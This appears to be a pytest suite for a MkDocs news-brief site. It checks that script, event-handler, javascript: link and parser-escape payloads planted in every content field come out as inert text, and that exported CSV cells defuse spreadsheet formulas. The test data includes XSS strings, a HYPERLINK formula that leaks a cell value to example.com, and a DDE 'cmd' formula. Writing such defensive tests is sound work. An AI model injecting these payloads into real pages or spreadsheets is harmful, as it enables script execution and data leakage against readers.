"""Hostile text in content is shown as text, never run: every text field of the real brief, planted."""

from __future__ import annotations

import csv
import io
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from modeltext import ALL_TEXT_FIELDS

from conftest import add_second_brief, copy_project, mkdocs_build, problems
from hostile_edits import BATCHES, EDITS, Edit
from newsbrief.checks import DATED_FIELDS, load_site
from newsbrief.model import FOLDERS, KINDS

PAYLOADS = [
    "<script>window.__pwned = true</script>",
    '<img src="x" onerror="window.__pwned = true">',
    "[click](javascript:window.__pwned=true)",
    "<a href='javascript:window.__pwned=true'>x</a>",
    "*not emphasis* and `not code` and <b>not bold</b> & an ampersand",
]
SCRIPT_STATE_PAYLOADS = ["</title></textarea></style>", "]]> -->", "</script x>", "<!-- <script> --!>", "<script>", "<!--", "<!--<script>"]
"""The HTML parser's script-data escape states: inside a <script>, '<!--<script>' makes everything after it
script until a second '</script>' — a page ends there. Planted last, so each text ends in '<!--<script>'."""

RELATIVE_DATE_FIELDS = {f"{name}_as_stated" for name in DATED_FIELDS}
"""Words such as 'last month': read against a source's date, so anything else is refused (tested there)."""


def plantable(kind: str) -> list[str]:
    """Every text field of a kind (from the model), as dotted paths: 'roles.title'."""
    return [
        f
        for f in ALL_TEXT_FIELDS[kind]
        # Exceptions quote the text's own words: planting in them would break the link they make.
        if f.rsplit(".", 1)[-1] not in RELATIVE_DATE_FIELDS and not f.startswith("not_figures.")
    ]


def plant(node, fields: set[str], payload: str, planted: set[str], prefix: str = ""):
    """Append the payload to every text field present in a parsed record (nested ones too)."""
    if isinstance(node, list):
        return [plant(item, fields, payload, planted, prefix) for item in node]
    if not isinstance(node, dict):
        return node
    result = {}
    for key, value in node.items():
        path = prefix + key
        if path in fields:
            planted.add(path)
            value = [f"{v} {payload}" for v in value] if isinstance(value, list) else f"{value} {payload}"
        else:
            value = plant(value, fields, payload, planted, path + ".")
        result[key] = value
    return result


NEW_ITEMS = {"updates": lambda record: {"date": str(record["published"]), "kind": "correction", "note": "An added correction"}}
"""A minimal item for a list that no record has: its required fields, from the record itself."""


def add_missing(record: dict, kind: str, missing: set[str]) -> None:
    """Give the record each text field that no record of its kind has yet, so every field is planted."""
    for path in sorted(missing):
        *parents, name = path.split(".")
        node = record
        for parent in parents:
            if parent not in node and parent in NEW_ITEMS:
                node[parent] = [NEW_ITEMS[parent](record)]
            node = node.get(parent)
            node = node[0] if isinstance(node, list) and node else node
        if isinstance(node, dict) and name not in node and not (name == "no_public_link" and "url" in node):
            node[name] = [f"An added {name}"] if name == "aliases" else f"An added {name}"


def build_planted_site(tmp_path_factory) -> Path:
    """The project with scripts planted in every text field of every kind, built (the `planted_site` fixture)."""
    root = tmp_path_factory.mktemp("hostile")
    project = copy_project(root / "project")
    add_second_brief(project)  # the second brief has the kinds and fields the first does not (votes, dimensions)
    planted: dict[str, set[str]] = {kind: set() for kind in KINDS}
    files = sorted((project / "content").rglob("*.yaml"))
    for path in files:  # first pass: which fields the real content has
        plant(yaml.safe_load(path.read_text(encoding="utf-8")), set(plantable(FOLDERS[path.parent.name])), "", planted[FOLDERS[path.parent.name]])
    for path in files:
        kind = FOLDERS[path.parent.name]
        record = yaml.safe_load(path.read_text(encoding="utf-8"))
        add_missing(record, kind, set(plantable(kind)) - planted[kind])
        for payload in PAYLOADS + SCRIPT_STATE_PAYLOADS:
            record = plant(record, set(plantable(kind)), payload, planted[kind])
        path.write_text(yaml.safe_dump(record, allow_unicode=True, sort_keys=False), encoding="utf-8")
    unplanted = {kind: set(plantable(kind)) - planted[kind] for kind in KINDS if set(plantable(kind)) - planted[kind]}
    assert unplanted == {}, f"text fields the planted build does not cover: {unplanted}"
    result = mkdocs_build(project, root / "site")
    assert result.returncode == 0, result.stderr[-3000:]
    return root / "site"


def all_output(site: Path) -> str:
    return "\n".join(p.read_text(encoding="utf-8") for p in site.rglob("*") if p.suffix in (".html", ".xml", ".json", ".csv"))


class _Markup(HTMLParser):
    """Collects what a browser would act on: scripts, event handlers, javascript: links, tags."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.dangers: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name.startswith("on"):
                self.dangers.append(f"<{tag} {name}=…>")
            if name in ("href", "src", "action", "formaction") and (value or "").strip().lower().startswith(("javascript:", "data:")):
                self.dangers.append(f"<{tag} {name}={value}>")
        if tag == "b":
            self.dangers.append("<b> from content")
        self.in_script = tag == "script"

    def handle_data(self, data):
        if self.in_script and "__pwned" in data and "application/ld+json" not in data:
            self.dangers.append(f"script: {data[:60]}")

    def handle_endtag(self, tag):
        self.in_script = False


def test_no_planted_script_survives_as_markup(planted_site: Path) -> None:
    for page in planted_site.rglob("*.html"):
        parser = _Markup()
        text = page.read_text(encoding="utf-8")
        # JSON-LD blocks are data, checked separately.
        parser.feed(re.sub(r'<script type="application/ld\+json">.*?</script>', "", text, flags=re.S))
        assert parser.dangers == [], page


def test_planted_text_is_shown_as_text(planted_site: Path) -> None:
    page = (planted_site / "companies" / "ford" / "index.html").read_text(encoding="utf-8")
    assert "Ford Motor Company &lt;script&gt;window.__pwned = true&lt;/script&gt;" in page
    assert "*not emphasis*" in page and "<em>not emphasis</em>" not in page


def test_feeds_and_json_ld_carry_planted_text_inertly(planted_site: Path) -> None:
    feed = (planted_site / "feed.xml").read_text(encoding="utf-8")
    assert "<script>" not in feed and "&lt;script&gt;" in feed
    brief = (planted_site / "briefs" / "ford-xiaomi-deny-jv-report" / "index.html").read_text(encoding="utf-8")
    blocks = re.findall(r'<script type="application/ld\+json">(.*?)</script>', brief, re.S)
    assert blocks and all("\\u003c/script\\u003e" in block for block in blocks)
    assert not any(char in block for block in blocks for char in "<>&\u2028\u2029")


CONTENT_EDITS = [e for e in EDITS if not e.in_docs]


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return copy_project(tmp_path / "project")


@pytest.mark.parametrize("edit", CONTENT_EDITS, ids=[e.name for e in CONTENT_EDITS])
def test_each_hostile_or_mistaken_edit_gets_its_exact_message(project: Path, edit: Edit) -> None:
    """Loading and checking content/ alone; edits in docs/ are checked by the builds below."""
    edit.apply(project)
    found = problems(project / "content")
    assert found == list(edit.messages)
    assert not any(secret in "\n".join(found) for secret in edit.never)


def tree(root: Path) -> set[str]:
    """Every path under ``root`` but the site folder and the project's caches."""
    return {
        p.relative_to(root).as_posix()
        for p in root.rglob("*")
        if not p.relative_to(root).as_posix().startswith(("site", "project/.cache")) and "__pycache__" not in p.parts
    }


@pytest.mark.parametrize("group", BATCHES, ids=[f"batch{i}" for i in range(len(BATCHES))])
def test_strict_builds_refuse_every_edit_and_publish_nothing_hostile(tmp_path: Path, group: list[Edit]) -> None:
    project = copy_project(tmp_path / "project")
    for edit in group:
        edit.apply(project)
    before = tree(tmp_path)
    result = mkdocs_build(project, tmp_path / "site")
    assert tree(tmp_path) == before, "the build wrote outside site/"
    errors = [line.removeprefix("ERROR   -  ") for line in result.stderr.splitlines() if line.startswith("ERROR")]
    expected = [m for edit in group for m in edit.messages]
    assert set(expected) <= set(errors), [m for m in expected if m not in errors]
    assert result.returncode == (1 if expected else 0), result.stderr[-2000:]
    assert "Traceback" not in result.stderr
    site = tmp_path / "site"
    published = all_output(site) if site.is_dir() else ""
    for edit in group:
        for secret in edit.never:
            assert secret not in result.stderr and secret not in published, edit.name
        if edit.shows:
            target = site / edit.page
            text = (target / "index.html" if target.is_dir() else target).read_text(encoding="utf-8")
            assert all(shown in text for shown in edit.shows), edit.name


def test_deleting_a_company_lists_every_dangling_reference_file_by_file(two_briefs: Path) -> None:
    """Every file that names BYD (in either brief) gets its own line; nothing else is reported."""
    (two_briefs / "companies" / "byd.yaml").unlink()
    naming = sorted(
        f"content/{path.relative_to(two_briefs).as_posix()}"
        for path in two_briefs.rglob("*.yaml")
        if re.search(r"(?<![\w-])byd(?![\w-])", path.read_text(encoding="utf-8"))
    )
    found = problems(two_briefs)
    assert len(naming) >= 6  # both stories name BYD
    assert sorted({p.split(":")[0] for p in found}) == naming
    assert all(p.endswith("no record 'byd'") for p in found)
    assert "content/briefs/ford-xiaomi-deny-jv-report.yaml:26: entities[2]: no record 'byd'" in found


def test_content_cannot_name_a_path_outside_its_folder(real_content: Path) -> None:
    (real_content / "companies" / "..evil.yaml").write_text("name: x\ndescription: y\n", encoding="utf-8")
    (real_content / "companies" / "Evil Corp.yaml").write_text("name: x\ndescription: y\n", encoding="utf-8")
    found = problems(real_content)
    assert found == [
        "content/companies/..evil.yaml: a hidden file (its name starts with a dot) is not read — rename it to 'evil.yaml'",
        "content/companies/Evil Corp.yaml: 'Evil Corp' is not a valid id: a file name is lower-case letters, digits and single hyphens — rename the file to 'evil-corp.yaml'",
    ]


_INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)([^>]*)>(.*?)</script", re.S | re.I)


def test_no_inline_script_holds_text_the_html_parser_acts_on(planted_site: Path) -> None:
    """Every inline <script> of every planted page: JSON data has '<', '>', '&' and U+2028/9 only as
    \\u escapes; no other inline script holds '<!--' or '<script' (the theme's own code has neither)."""
    checked = 0
    for page in planted_site.rglob("*.html"):
        for attributes, body in _INLINE_SCRIPT.findall(page.read_text(encoding="utf-8")):
            checked += 1
            if "json" in attributes:
                assert not any(char in body for char in "<>&\u2028\u2029"), (page, body[:200])
            else:
                assert "<!--" not in body and "<script" not in body.lower(), (page, body[:200])
    assert checked > 100


# --- downloads: spreadsheet formulas -----------------------------------------------------

FORMULAS = ['=HYPERLINK("http://example.com/?leak=" & A1, "click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1, 2)", "\t=1+1"]
"""OWASP's CSV-injection examples, one for each character a spreadsheet starts a formula with
(a carriage return is refused at load, as every control character is)."""


def test_figures_csv_holds_no_live_formula_and_round_trips(real_content: Path) -> None:
    from newsbrief.export import FORMULA_STARTS, figures_csv
    from newsbrief.numbers import read_numbers

    planted = {}
    for index, path in enumerate(sorted((real_content / "figures").glob("*.yaml"))):
        record = yaml.safe_load(path.read_text(encoding="utf-8"))
        record["metric"] = FORMULAS[index % len(FORMULAS)]
        record["scope"] = FORMULAS[(index + 1) % len(FORMULAS)] + ', "quoted", and\na second line'
        # The formulas' digits are no figures: marked as an editor would, so the numbers check lets them through.
        record["not_figures"] = [
            {"text": formula, "reason": "a planted formula"}
            for formula in dict.fromkeys(FORMULAS[i % len(FORMULAS)] for i in (index, index + 1))
            if read_numbers(formula)
        ]
        planted[path.stem] = record
        path.write_text(yaml.safe_dump(record, allow_unicode=True, sort_keys=False), encoding="utf-8")
    site = load_site(real_content, real_content.parent)
    assert site.problems == []

    rows = list(csv.DictReader(io.StringIO(figures_csv(site), newline="")))
    assert {row["id"] for row in rows} == set(planted)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS) or re.fullmatch(r"-?\d+(\.\d+)?", cell), (row["id"], column, cell)
        # A reader gets the text back by dropping the one quote put before it.
        assert row["metric"] == "'" + planted[row["id"]]["metric"]
        assert row["scope"] == "'" + planted[row["id"]]["scope"]
    assert any(row["value"].startswith("-") for row in rows), "negative numbers stay numbers"


def test_a_carriage_return_is_refused_at_load(real_content: Path) -> None:
    path = real_content / "figures" / "xiaomi-target-2025.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace("metric: ", 'metric: "\\r=1+1" # ', 1), encoding="utf-8")
    assert problems(real_content) == [
        "content/figures/xiaomi-target-2025.yaml:2: metric: the text contains the control character U+000D CONTROL CHARACTER "
        '(written as a YAML escape such as "\\x01") — delete it: readers cannot see it and it breaks the feed'
    ]


def test_a_build_writes_only_into_site_and_the_projects_cache(tmp_path: Path) -> None:
    """The search plugin's Chinese word splitter (jieba) caches its dictionary, 9 MB, on the first
    build: in the project's .cache/ (git-ignored), never in the machine's temporary folder."""
    import os
    import subprocess
    import sys

    project = copy_project(tmp_path / "project")
    shutil.rmtree(project / ".cache", ignore_errors=True)  # as on a fresh checkout: the first build makes it
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    before = tree(tmp_path)
    result = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--strict", "-f", str(project / "mkdocs.yml"), "-d", str(tmp_path / "site")],
        capture_output=True,
        text=True,
        timeout=300,
        env={**os.environ, "NO_MKDOCS_2_WARNING": "1", "TMPDIR": str(temporary)},
    )
    assert result.returncode == 0, result.stderr[-2000:]
    assert list(temporary.iterdir()) == []
    assert tree(tmp_path) == before
    assert (project / ".cache" / "jieba.cache").stat().st_size > 1_000_000


# Numbers in every text field (corrections, descriptions, scopes, as-stated words…) are checked against the
# figures in each text's scope: tests/test_two_briefs.py plants a wrong number in every text of every kind.
